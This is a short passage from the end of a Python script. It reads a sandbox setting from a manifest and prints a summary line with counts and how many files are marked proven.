    sandbox = manifest["sandbox"] or "none"
    print(f"{args.out_dir}: {counts} ({proven}/{len(files)} proven, sandbox: {sandbox})")


if __name__ == "__main__":
    main()
